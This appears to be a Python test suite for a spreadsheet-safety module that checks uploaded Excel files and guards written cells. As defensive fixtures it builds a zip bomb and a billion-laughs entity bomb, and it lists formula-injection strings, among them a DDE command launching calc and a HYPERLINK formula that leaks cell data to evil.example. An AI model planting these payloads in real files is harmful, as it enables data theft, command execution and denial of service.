"""Tests for sso_app.safe_io: hostile files are built in tmp_path at test time, none committed."""

from __future__ import annotations

import errno
import io
import os
import re
import signal
import stat
import struct
import subprocess
import sys
import time
import tracemalloc
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sso_app.files.checks import check_workbook_file
from sso_app.files.textsafe import csv_safe, set_text_cell, text_safe_for_sheet
from sso_app.files.writing import (
    KEEP_VERSIONS,
    TEMP_PREFIX,
    atomic_write,
    backups_folder_for,
    lock_file_for,
    remove_stale_temps,
    versions_of,
)
from sso_kpi.errors import SsoError

REPO = Path(__file__).resolve().parents[1]
THAI = re.compile("[\u0e00-\u0e7f]")
XLSM_CT = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
XLSX_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


# ------------------------------------------------------------------------------------------
# Fixture generators
# ------------------------------------------------------------------------------------------


def make_workbook(path: Path, rows: int = 3) -> Path:
    """A real, small workbook written by openpyxl (an .xlsx package, whatever the name)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "แผน KPI"
    for r in range(1, rows + 1):
        ws.append([f"ตัวชี้วัด {r}", r * 1.5])
    buf = io.BytesIO()
    wb.save(buf)
    path.write_bytes(buf.getvalue())
    return path


def rezip(
    src: Path,
    dst: Path,
    replace: dict[str, bytes] | None = None,
    stored: tuple[str, ...] = (),
) -> Path:
    """Copy a zip, replacing or adding members; names in ``stored`` are not compressed."""
    replace = dict(replace or {})
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = replace.pop(info.filename, zin.read(info))
            kind = zipfile.ZIP_STORED if info.filename in stored else zipfile.ZIP_DEFLATED
            zout.writestr(info.filename, data, compress_type=kind)
        for name, data in replace.items():
            zout.writestr(name, data)
    return dst


def edit_member(src: Path, dst: Path, name: str, old: bytes, new: bytes) -> Path:
    with zipfile.ZipFile(src) as z:
        data = z.read(name)
    assert old in data, (name, old)
    return rezip(src, dst, {name: data.replace(old, new, 1)})


def make_xlsm(path: Path) -> Path:
    """An .xlsm package: the workbook part typed macro-enabled plus a (dummy) VBA part."""
    plain = make_workbook(path.with_name("plain-for-xlsm.xlsx"))
    with zipfile.ZipFile(plain) as z:
        types = z.read("[Content_Types].xml")
    types = types.replace(XLSX_CT.encode(), XLSM_CT.encode()).replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject" /></Types>',
    )
    return rezip(plain, path, {"[Content_Types].xml": types, "xl/vbaProject.bin": b"\x01" * 512})


def make_cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal Compound File Binary (v3, 512-byte sectors) holding up to three streams.

    Layout: header, sector 0 = FAT, sector 1 = directory, then each stream (padded to 4096
    bytes so it lives in regular sectors and no mini stream is needed).
    """
    sect, end, free, fatsect, nostream = 512, 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    names = sorted(streams, key=lambda n: (len(n), n.upper()))  # CFB directory order
    blobs = [streams[n].ljust(4096, b"\0") for n in names]
    fat, starts = [fatsect, end], []
    for blob in blobs:
        count = -(-len(blob) // sect)
        starts.append(len(fat))
        fat += [*range(len(fat) + 1, len(fat) + count), end]
    fat += [free] * (128 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return struct.pack(
            "<64sHBBIII16sIQQIQ", raw, len(raw), kind, 1, nostream, right, child,
            b"\0" * 16, 0, 0, 0, start, size,
        )  # fmt: skip

    directory = entry("Root Entry", 5, 1, nostream, end, 0)
    for i, (blob, start) in enumerate(zip(blobs, starts, strict=True)):
        right = i + 2 if i + 1 < len(blobs) else nostream  # a chain of right siblings
        directory += entry(names[i], 2, nostream, right, start, len(blob))
    directory = directory.ljust(sect, b"\0")
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII", bytes.fromhex("d0cf11e0a1b11ae1"), b"\0" * 16,
        0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6, 0, 1, 1, 0, 4096, end, 0, end, 0,
    ) + struct.pack("<109I", 0, *[free] * 108)  # fmt: skip
    return header + struct.pack("<128I", *fat) + directory + b"".join(blobs)


def assert_bilingual(err: pytest.ExceptionInfo[SsoError], english: str, path: Path) -> None:
    """The refusal names the file and says it in Thai and in English."""
    text = str(err.value)
    assert THAI.search(err.value.message_th), text
    assert english in err.value.message_en, text
    assert english in text and err.value.message_th in text
    assert path.name in text


# ------------------------------------------------------------------------------------------
# check_workbook_file: valid files pass
# ------------------------------------------------------------------------------------------


def test_valid_xlsx_passes(tmp_path: Path) -> None:
    path = make_workbook(tmp_path / "unit01.xlsx")
    check_workbook_file(path)
    check_workbook_file(path, expect_macro=False)


def test_valid_xlsm_passes(tmp_path: Path) -> None:
    path = make_xlsm(tmp_path / "unit01.xlsm")
    check_workbook_file(path)
    check_workbook_file(path, expect_macro=True)


def test_the_check_tells_whether_a_sheet_merges_cells(tmp_path: Path) -> None:
    plain = make_workbook(tmp_path / "plain.xlsx")
    assert not check_workbook_file(plain).has_merged_cells
    wb = openpyxl.load_workbook(plain)
    wb.active.merge_cells("A1:A2")
    wb.save(tmp_path / "merged.xlsx")
    assert check_workbook_file(tmp_path / "merged.xlsx").has_merged_cells


# ------------------------------------------------------------------------------------------
# check_workbook_file: one refusal per kind
# ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "english"),
    [("missing", "file not found"), ("folder", "a folder"), ("empty", "empty")],
)
def test_refuses_missing_folder_or_empty(tmp_path: Path, kind: str, english: str) -> None:
    path = tmp_path / "unit02.xlsx"
    if kind == "folder":
        path.mkdir()
    elif kind == "empty":
        path.write_bytes(b"")
    with pytest.raises(SsoError) as err:
        check_workbook_file(path)
    assert_bilingual(err, english, path)


def test_refuses_random_bytes(tmp_path: Path) -> None:
    path = tmp_path / "unit03.xlsx"
    path.write_bytes(bytes(range(256)) * 40 + os.urandom(4096))
    with pytest.raises(SsoError) as err:
        check_workbook_file(path)
    assert_bilingual(err, "not an Excel", path)


def test_refuses_csv_renamed_xlsx(tmp_path: Path) -> None:
    path = tmp_path / "unit04.xlsx"
    path.write_text("รหัส,ตัวชี้วัด,น้ำหนัก\n1,อัตราการจ่ายสิทธิประโยชน์,0.5\n", encoding="utf-8")
    with pytest.raises(SsoError) as err:
        check_workbook_file(path)
    assert_bilingual(err, "text file", path)


def test_refuses_password_protected_workbook(tmp_path: Path) -> None:
    # What Excel writes for "Encrypt with Password": a CFB file with these two streams.
    path = tmp_path / "unit05.xlsx"
    path.write_bytes(
        make_cfb({"EncryptionInfo": b"\x04\x00\x04\x00" + b"x" * 64, "EncryptedPackage": b"?"})
    )
    olefile = pytest.importorskip("olefile")  # read-only check that the fixture is real CFB
    with olefile.OleFileIO(str(path)) as ole:
        assert ole.exists("EncryptedPackage")
    with pytest.raises(SsoError) as err:
        check_workbook_file(path)
    assert_bilingual(err, "password-protected", path)
    assert "remove the password" in str(err.value)


def test_refuses_legacy_xls(tmp_path: Path) -> None:
    path = tmp_path / "unit06.xlsx"
    path.write_bytes(make_cfb({"Workbook": b"\x09\x08" + b"\0" * 100}))
    with pytest.raises(SsoError) as err:
        check_workbook_file(path)
    assert_bilingual(err, ".xls", path)
    assert "password" not in str(err.value)


def test_refuses_truncated_workbook(tmp_path: Path) -> None:
    whole = make_workbook(tmp_path / "whole.xlsx").read_bytes()
    path = tmp_path / "unit07.xlsx"
    path.write_bytes(whole[: len(whole) // 2])
    with pytest.raises(SsoError) as err:
        check_workbook_file(path)
    assert_bilingual(err, "damaged or incomplete", path)


def test_refuses_crc_error(tmp_path: Path) -> None:
    # Sheet stored uncompressed, then one byte flipped: the directory is intact, the CRC not.
    src = make_workbook(tmp_path / "whole.xlsx")
    stored = rezip(src, tmp_path / "stored.xlsx", stored=("xl/worksheets/sheet1.xml",))
    data = bytearray(stored.read_bytes())
    data[data.index(b"<sheetData>") + 1] ^= 0x20
    path = tmp_path / "unit08.xlsx"
    path.write_bytes(bytes(data))
    with pytest.raises(SsoError) as err:
        check_workbook_file(path)
    assert_bilingual(err, "damaged or incomplete", path)
    assert "sheet1.xml" in str(err.value)


def test_refuses_zip_bomb_in_bounded_memory(tmp_path: Path) -> None:
    # A 300 MB member of zeros (about 300 KB compressed), streamed so the test stays small.
    path = rezip(make_workbook(tmp_path / "whole.xlsx"), tmp_path / "unit09.xlsx")
    zeros = bytes(2**20)
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z,
        z.open("xl/media/image1.png", "w", force_zip64=True) as member,
    ):
        for _ in range(300):
            member.write(zeros)
    assert path.stat().st_size < 2 * 2**20
    tracemalloc.start()
    try:
        with pytest.raises(SsoError) as err:
            check_workbook_file(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert_bilingual(err, "zip bomb", path)
    assert "300 MB" in str(err.value)
    assert peak < 50 * 2**20, f"peak {peak / 2**20:.0f} MB: the bomb was decompressed"


def test_refuses_high_compression_ratio(tmp_path: Path) -> None:
    # 8 MB of zeros: under the total limit, but compressed ~1000 times (limit 200).
    zeros = bytes(8 * 2**20)
    path = rezip(make_workbook(tmp_path / "w.xlsx"), tmp_path / "unit10.xlsx", {"xl/z.bin": zeros})
    with pytest.raises(SsoError) as err:
        check_workbook_file(path)
    assert_bilingual(err, "compressed", path)
    assert "xl/z.bin" in str(err.value)
    check_workbook_file(path, max_ratio=1e6)  # the same file passes when the limit allows


def test_refuses_too_many_parts(tmp_path: Path) -> None:
    extra = {f"xl/media/image{i}.png": b"\x89PNG" for i in range(30)}
    path = rezip(make_workbook(tmp_path / "w.xlsx"), tmp_path / "unit11.xlsx", extra)
    with pytest.raises(SsoError) as err:
        check_workbook_file(path, max_parts=20)
    assert_bilingual(err, "parts, over the 20 limit", path)


def test_refuses_zip_that_is_not_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "unit12.xlsx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("word/document.xml", "<w:document/>")
    with pytest.raises(SsoError) as err:
        check_workbook_file(path)
    assert_bilingual(err, "not an Excel workbook", path)


def test_refuses_xlsx_renamed_xlsm(tmp_path: Path) -> None:
    path = make_workbook(tmp_path / "unit13.xlsm")
    with pytest.raises(SsoError) as err:
        check_workbook_file(path)
    assert_bilingual(err, "an .xlsx workbook (no macros) renamed .xlsm", path)


def test_refuses_xlsm_renamed_xlsx(tmp_path: Path) -> None:
    path = make_xlsm(tmp_path / "unit14.xlsm").rename(tmp_path / "unit14.xlsx")
    with pytest.raises(SsoError) as err:
        check_workbook_file(path)
    assert_bilingual(err, "macro-enabled .xlsm workbook renamed .xlsx", path)


def test_refuses_xlsx_when_a_macro_book_is_expected(tmp_path: Path) -> None:
    path = make_workbook(tmp_path / "unit15.xlsx")
    with pytest.raises(SsoError) as err:
        check_workbook_file(path, expect_macro=True)
    assert_bilingual(err, "a .xlsm workbook is needed", path)


def _laughs(i: int) -> str:
    ref = "&lol;" if i == 1 else f"&lol{i - 1};"
    return f'<!ENTITY lol{i} "{ref * 10}">'


# Classic billion laughs: &lol9; expands to 10**9 "lol"s (3 GB) if a parser allows it.
BILLION_LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + "\n".join(_laughs(i) for i in range(1, 10))
    + '\n]>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
    'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
).encode()


def make_entity_bomb(tmp_path: Path, name: str) -> Path:
    """A valid workbook whose xl/sharedStrings.xml is a billion-laughs document."""
    src = make_workbook(tmp_path / "w.xlsx")
    with zipfile.ZipFile(src) as z:
        types, rels = z.read("[Content_Types].xml"), z.read("xl/_rels/workbook.xml.rels")
    sst_ct = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    types = types.replace(
        b"</Types>",
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{sst_ct}" /></Types>'.encode(),
    )
    rel_type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
    rels = rels.replace(
        b"</Relationships>",
        f'<Relationship Id="rIdSst" Type="{rel_type}" Target="sharedStrings.xml" />'
        "</Relationships>".encode(),
    )
    replace = {
        "[Content_Types].xml": types,
        "xl/_rels/workbook.xml.rels": rels,
        "xl/sharedStrings.xml": BILLION_LAUGHS,
    }
    return rezip(src, tmp_path / name, replace)


def test_refuses_entity_bomb(tmp_path: Path) -> None:
    assert BILLION_LAUGHS.count(b"<!ENTITY") == 10
    path = make_entity_bomb(tmp_path, "unit16.xlsx")
    with pytest.raises(SsoError) as err:
        check_workbook_file(path)
    assert_bilingual(err, "entity", path)
    assert "xl/sharedStrings.xml" in str(err.value)


def test_openpyxl_with_defusedxml_refuses_entity_bomb(tmp_path: Path) -> None:
    """The pyproject dependency really protects us: openpyxl parses cells and strings through
    defusedxml (its other parts through lxml, which it sets not to resolve entities)."""
    import defusedxml

    assert openpyxl.DEFUSEDXML is True and openpyxl.LXML is True
    path = make_entity_bomb(tmp_path, "unit17.xlsx")
    with pytest.raises(ValueError, match="could not read strings") as err:
        openpyxl.load_workbook(path)
    # openpyxl wraps the refusal in a ValueError; the cause is defusedxml's, not a parse error.
    assert isinstance(err.value.__cause__, defusedxml.EntitiesForbidden)


@pytest.mark.parametrize("variant", ["after-long-comment", "utf-16", "entity-only"])
def test_refuses_hidden_dtd(tmp_path: Path, variant: str) -> None:
    src = make_workbook(tmp_path / "w.xlsx")
    with zipfile.ZipFile(src) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    if variant == "after-long-comment":  # pushes the DOCTYPE past the 64 KiB we inspect
        sheet = b"<!--" + b"x" * 100_000 + b'-->\n<!DOCTYPE w [<!ENTITY a "b">]>\n' + sheet
    elif variant == "utf-16":  # a byte search for "<!DOCTYPE" would miss this
        text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY a "b">]>'
        sheet = (text + sheet.decode()).encode("utf-16")
    else:
        sheet = b'<!ENTITY a "b">' + sheet
    path = rezip(src, tmp_path / "unit18.xlsx", {"xl/worksheets/sheet1.xml": sheet})
    with pytest.raises(SsoError) as err:
        check_workbook_file(path)
    assert_bilingual(err, "entity", path)


def test_refuses_million_row_dimension(tmp_path: Path) -> None:
    src = make_workbook(tmp_path / "w.xlsx")
    path = edit_member(
        src, tmp_path / "unit19.xlsx", "xl/worksheets/sheet1.xml",
        b'<dimension ref="A1:B3"', b'<dimension ref="A1:B1000000"',
    )  # fmt: skip
    with pytest.raises(SsoError) as err:
        check_workbook_file(path)
    assert_bilingual(err, "1,000,000 rows, over the 200,000-row limit", path)
    assert "แผน KPI" in str(err.value)  # the sheet name the planner sees, not the part name


def test_refuses_rows_even_when_dimension_lies(tmp_path: Path) -> None:
    src = make_workbook(tmp_path / "w.xlsx", rows=60)
    path = edit_member(
        src, tmp_path / "unit20.xlsx", "xl/worksheets/sheet1.xml",
        b'<dimension ref="A1:B60"', b'<dimension ref="A1:B2"',
    )  # fmt: skip
    check_workbook_file(path)  # 60 rows are fine by default
    with pytest.raises(SsoError) as err:
        check_workbook_file(path, max_rows=50)
    assert_bilingual(err, "60 rows, over the 50-row limit", path)


# ------------------------------------------------------------------------------------------
# lock files
# ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "lock"),
    [
        ("Plan.xlsm", "~$Plan.xlsm"),
        ("Report2564.xlsm", "~$port2564.xlsm"),
        ("Report2564.xlsm", "~$Report2564.xlsm"),
        ("Report2564.xlsm", ".~lock.Report2564.xlsm#"),
    ],
)
def test_lock_file_for(tmp_path: Path, name: str, lock: str) -> None:
    path = tmp_path / name
    assert lock_file_for(path) is None
    (tmp_path / lock).write_bytes(b"owner")
    assert lock_file_for(path) == tmp_path / lock


# ------------------------------------------------------------------------------------------
# atomic_write
# ------------------------------------------------------------------------------------------


def writer_of(data: bytes):
    def write(tmp: Path) -> None:
        tmp.write_bytes(data)

    return write


def temps(folder: Path) -> list[Path]:
    return sorted(folder.glob(f"{TEMP_PREFIX}*"))


@pytest.fixture
def plan(tmp_path: Path) -> Path:
    path = tmp_path / "SSO_Plan.xlsm"
    path.write_bytes(b"old version")
    return path


def test_atomic_write_replaces_and_keeps_dated_versions(plan: Path) -> None:
    backup = atomic_write(plan, writer_of(b"version 2"))
    assert backup is not None and backup.parent == backups_folder_for(plan)
    assert backup.parent.name == "SSO_Plan.backups" and backup.name.startswith("SSO_Plan 20")
    assert plan.read_bytes() == b"version 2"
    assert backup.read_bytes() == b"old version"
    for n in range(3, 3 + KEEP_VERSIONS + 2):
        atomic_write(plan, writer_of(b"version %d" % n))
    versions = versions_of(plan)
    assert len(versions) == KEEP_VERSIONS >= 5  # the oldest dropped, newest first
    assert [v.read_bytes() for v in versions[:2]] == [b"version 13", b"version 12"]
    assert sorted(p.name for p in plan.parent.iterdir()) == ["SSO_Plan.backups", "SSO_Plan.xlsm"]


def test_atomic_write_new_file_has_no_backup(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    assert atomic_write(path, writer_of(b"a,b\n")) is None
    assert path.read_bytes() == b"a,b\n"
    assert versions_of(path) == []
    assert atomic_write(path, writer_of(b"c\n"), backup=False) is None
    assert not backups_folder_for(path).exists()


def test_atomic_write_keeps_permission_bits(plan: Path) -> None:
    plan.chmod(0o640)
    atomic_write(plan, writer_of(b"new"))
    assert stat.S_IMODE(plan.stat().st_mode) == 0o640


def test_atomic_write_failing_writer_leaves_original(plan: Path) -> None:
    def write(tmp: Path) -> None:
        tmp.write_bytes(b"half")
        raise ValueError("boom")

    with pytest.raises(SsoError) as err:
        atomic_write(plan, write)
    assert_bilingual(err, "the original file is unchanged", plan)
    assert "boom" in str(err.value)
    assert plan.read_bytes() == b"old version"
    assert temps(plan.parent) == []
    assert not backups_folder_for(plan).exists()


def test_atomic_write_keyboard_interrupt_cleans_up(plan: Path) -> None:
    def write(tmp: Path) -> None:
        tmp.write_bytes(b"half")
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        atomic_write(plan, write)
    assert plan.read_bytes() == b"old version"
    assert temps(plan.parent) == []


@pytest.mark.parametrize(
    ("code", "english"),
    [
        (errno.ENOSPC, "the disk is full"),
        (errno.EROFS, "the drive is read-only"),
        (errno.EACCES, "permission denied"),
    ],
)
def test_atomic_write_maps_os_errors(plan: Path, code: int, english: str) -> None:
    def write(tmp: Path) -> None:
        tmp.write_bytes(b"partial")
        raise OSError(code, os.strerror(code))

    with pytest.raises(SsoError) as err:
        atomic_write(plan, write)
    assert_bilingual(err, english, plan)
    if code == errno.ENOSPC:
        assert "ดิสก์เต็ม" in str(err.value)
    assert plan.read_bytes() == b"old version"
    assert temps(plan.parent) == []


def test_atomic_write_failed_verify_leaves_original(plan: Path) -> None:
    with pytest.raises(SsoError) as err:
        atomic_write(plan, writer_of(b"not a zip"), verify=check_workbook_file)
    assert_bilingual(err, "failed its check", plan)
    assert plan.read_bytes() == b"old version"
    assert temps(plan.parent) == []


def test_atomic_write_verify_sees_the_real_suffix(tmp_path: Path) -> None:
    # The temp name ends with the target's name, so the .xlsm/.xlsx check works on it.
    path = tmp_path / "SSO_Plan.xlsm"
    src = make_xlsm(tmp_path / "src.xlsm")
    atomic_write(path, lambda tmp: tmp.write_bytes(src.read_bytes()), verify=check_workbook_file)
    with pytest.raises(SsoError):
        xlsx = make_workbook(tmp_path / "src.xlsx").read_bytes()
        atomic_write(path, lambda tmp: tmp.write_bytes(xlsx), verify=check_workbook_file)
    assert path.read_bytes() == src.read_bytes()


def test_atomic_write_refuses_empty_result(plan: Path) -> None:
    with pytest.raises(SsoError) as err:
        atomic_write(plan, lambda tmp: None)
    assert_bilingual(err, "empty", plan)
    assert plan.read_bytes() == b"old version"
    assert temps(plan.parent) == []


def called_writer():
    calls: list[Path] = []

    def write(tmp: Path) -> None:
        calls.append(tmp)
        tmp.write_bytes(b"new")

    return write, calls


def test_atomic_write_refuses_when_open_in_excel(plan: Path) -> None:
    (plan.parent / f"~${plan.name}").write_bytes(b"owner")
    write, calls = called_writer()
    with pytest.raises(SsoError) as err:
        atomic_write(plan, write)
    assert_bilingual(err, "close the workbook in Excel first", plan)
    assert "ปิดไฟล์ใน Excel ก่อน" in str(err.value)
    assert calls == [] and temps(plan.parent) == []
    assert plan.read_bytes() == b"old version"


def test_atomic_write_refuses_read_only_file(plan: Path) -> None:
    # Tests may run as root, where 0o444 does not stop a write: the check reads the mode.
    plan.chmod(0o444)
    write, calls = called_writer()
    with pytest.raises(SsoError) as err:
        atomic_write(plan, write)
    assert_bilingual(err, "read-only", plan)
    assert calls == [] and temps(plan.parent) == []
    assert plan.read_bytes() == b"old version"


def test_atomic_write_refuses_unwritable_or_missing_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write, calls = called_writer()
    with pytest.raises(SsoError) as err:
        atomic_write(tmp_path / "no-such-folder" / "a.xlsx", write)
    assert_bilingual(err, "folder to save in does not exist", tmp_path / "a.xlsx")
    # Root may write anywhere, so simulate a read-only folder through os.access.
    real_access = os.access
    monkeypatch.setattr(os, "access", lambda p, m: Path(p) != tmp_path and real_access(p, m))
    with pytest.raises(SsoError) as err:
        atomic_write(tmp_path / "a.xlsx", write)
    assert_bilingual(err, "the folder is read-only", tmp_path / "a.xlsx")
    assert calls == [] and list(tmp_path.iterdir()) == []


def test_remove_stale_temps_only_old_ones(tmp_path: Path) -> None:
    old, fresh = tmp_path / f"{TEMP_PREFIX}aaaa-x.xlsm", tmp_path / f"{TEMP_PREFIX}bbbb-x.xlsm"
    other = tmp_path / "x.xlsm"
    for p in (old, fresh, other):
        p.write_bytes(b"x")
    os.utime(old, (time.time() - 7200, time.time() - 7200))
    os.utime(other, (time.time() - 7200, time.time() - 7200))
    assert remove_stale_temps(tmp_path) == [old]
    assert fresh.exists() and other.exists()
    atomic_write(tmp_path / "y.xlsm", writer_of(b"y"))  # cleans its folder, but not `fresh`
    assert fresh.exists()


CHILD = """
import sys, time
from pathlib import Path
from sso_app.files.writing import atomic_write

def write(tmp):
    with open(tmp, "wb") as f:
        f.write(b"PK\\x03\\x04 the first half of a new workbook")
        f.flush()
    print("writing", flush=True)
    time.sleep(120)

atomic_write(Path(sys.argv[1]), write)
"""


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="needs SIGKILL")
def test_process_killed_during_save(tmp_path: Path) -> None:
    path = make_workbook(tmp_path / "SSO_Plan.xlsx")
    before = path.read_bytes()
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    child = subprocess.Popen(
        [sys.executable, "-c", CHILD, str(path)], stdout=subprocess.PIPE, text=True, env=env
    )
    try:
        assert child.stdout is not None
        assert child.stdout.readline().strip() == "writing"  # the temp file is half-written
        leftover = temps(tmp_path)
        assert len(leftover) == 1 and leftover[0].name.endswith("-SSO_Plan.xlsx")
        child.send_signal(signal.SIGKILL)
        assert child.wait() == -signal.SIGKILL
    finally:
        child.kill()
        child.wait()
    assert path.read_bytes() == before
    assert openpyxl.load_workbook(path).active["A1"].value == "ตัวชี้วัด 1"
    assert remove_stale_temps(tmp_path, older_than_s=0) == leftover
    assert temps(tmp_path) == []


# ------------------------------------------------------------------------------------------
# Formula injection
# ------------------------------------------------------------------------------------------

HOSTILE = [
    "=1+1",
    "+SUM(A1)",
    "-2+3",
    "@cmd",
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "=cmd|' /C calc'!A0",
    "-",
    "#N/A",
    "\t=1+1",
]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def save(wb: openpyxl.Workbook) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_openpyxl_fact_plain_assignment_makes_a_formula() -> None:
    """Why set_text_cell exists: openpyxl turns any "=..." string into a formula."""
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=1+1"
    assert wb.active["A1"].data_type == "f"
    assert "<f>1+1</f>" in sheet_xml(save(wb))


def test_set_text_cell_never_writes_a_formula(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    for row, text in enumerate(HOSTILE, start=1):
        set_text_cell(wb.active.cell(row=row, column=1), text)
    set_text_cell(wb.active.cell(row=1, column=2), 42)
    path = tmp_path / "out.xlsx"
    path.write_bytes(save(wb))

    xml = sheet_xml(path.read_bytes())
    assert "<f>" not in xml and "<f " not in xml
    assert xml.count('t="inlineStr"') == len(HOSTILE)
    assert '<c r="B1" t="n"><v>42</v></c>' in xml

    back = openpyxl.load_workbook(path).active
    assert [back.cell(row=r, column=1).value for r in range(1, len(HOSTILE) + 1)] == HOSTILE
    assert all(back.cell(row=r, column=1).data_type == "s" for r in range(1, len(HOSTILE) + 1))
    assert back["A1"].quotePrefix is True  # Excel keeps it text even after an edit
    assert back["B1"].value == 42

    python_calamine = pytest.importorskip("python_calamine")  # a second reader agrees
    rows = python_calamine.CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert [r[0] for r in rows] == HOSTILE


def test_set_text_cell_replaces_characters_xml_cannot_hold() -> None:
    wb = openpyxl.Workbook()
    set_text_cell(wb.active["A1"], "a\x01b\ud800c")
    data = save(wb)
    assert openpyxl.load_workbook(io.BytesIO(data)).active["A1"].value == "a\ufffdb\ufffdc"


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_and_sheet_guards_prefix_formula_like_text(text: str) -> None:
    if text == "#N/A":  # not a formula: only set_text_cell needs to care about it
        assert csv_safe(text) == text
        return
    assert csv_safe(text) == "'" + text
    assert text_safe_for_sheet(text) == "'" + text


@pytest.mark.parametrize("value", [42, -2, 3.5, -0.0, None, True, "ตัวชี้วัด", "a=b", " =1", ""])
def test_csv_and_sheet_guards_leave_other_values_alone(value: object) -> None:
    assert csv_safe(value) is value
    assert text_safe_for_sheet(value) is value


# XML 1.0 cannot carry control characters (except tab/LF, which survive), lone surrogates
# or U+FFFE/U+FFFF; and a CR comes back as LF (XML end-of-line normalisation).
XML_TEXT = st.text(
    st.characters(
        blacklist_categories=("Cs", "Cc"),
        blacklist_characters="\ufffe\uffff",
    )
    | st.sampled_from("\t\n=+-@"),
    max_size=60,
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=XML_TEXT)
def test_set_text_cell_round_trips_any_text(text: str) -> None:
    wb = openpyxl.Workbook()
    set_text_cell(wb.active["A1"], text)
    data = save(wb)
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    cell = openpyxl.load_workbook(io.BytesIO(data)).active["A1"]
    if text == "":
        assert cell.value is None  # openpyxl writes an empty string as an empty cell
    else:
        assert cell.value == text
        assert cell.data_type == "s"


def test_a_new_file_gets_ordinary_permissions(tmp_path):
    old = os.umask(0o022)
    try:
        atomic_write(tmp_path / "new.xlsx", lambda p: p.write_bytes(b"data"), backup=False)
    finally:
        os.umask(old)
    assert (tmp_path / "new.xlsx").stat().st_mode & 0o777 == 0o644
